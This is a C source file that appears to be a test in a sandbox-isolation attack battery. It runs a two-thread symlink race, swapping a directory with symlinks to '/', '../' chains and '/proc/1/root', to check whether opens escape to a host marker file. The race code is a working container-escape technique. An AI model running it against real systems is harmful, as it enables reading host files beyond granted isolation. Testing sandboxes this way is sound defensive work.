/* Two threads: one keeps swapping ./d between a directory and a symlink
 * pointing at "/" (and at long ../ chains); the other keeps opening
 * d/<target> and reports whether it ever read the marker's content.
 * Usage: race [path [marker [dir]]]: races in dir (default /tmp), e.g. a
 * bind mount of a host directory. Also prints the attack battery's
 * verdict line (tests/attacks). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sched.h>
#include <time.h>
#include <unistd.h>

static volatile int stop, swaps;
static const char *targets[] = {"/", "../../../../../../../../..", "/../../..", "/proc/self/root", "/proc/1/root/../.."};

static void *swapper(void *arg) {
    (void)arg;
    unsigned i = 0;
    while (!stop) {
        unlink("d");
        rmdir("d");
        if (i & 1) mkdir("d", 0755);
        else symlink(targets[(i / 2) % 5], "d");
        i++;
        swaps = i;
    }
    return NULL;
}

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "d/tmp/marker";
    const char *marker = argc > 2 ? argv[2] : "HOST-SECRET";
    const char *dir = argc > 3 ? argv[3] : "/tmp";
    if (chdir(dir) != 0) {
        printf("ATTACK symlink_race BLOCKED cannot enter %s\n", dir);
        return 2;
    }
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    int opened = 0, leaks = 0;
    /* At least 3000 tries, and (natively, where they are fast) until some
     * opens got through or two seconds have passed. */
    while (!swaps) sched_yield();
    time_t start = time(NULL);
    for (int i = 0; i < 3000 || (opened < 100 && time(NULL) - start < 2); i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        char buf[256] = {0};
        read(fd, buf, sizeof buf - 1);
        if (strstr(buf, marker)) leaks++;
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("opened=%d leaks=%d\n", opened, leaks);
    if (leaks)
        printf("ATTACK symlink_race ESCAPED opened the host file through a swapped symlink\n");
    else
        printf("ATTACK symlink_race BLOCKED no open through the swapped path reached the host file\n");
    return leaks != 0;
}
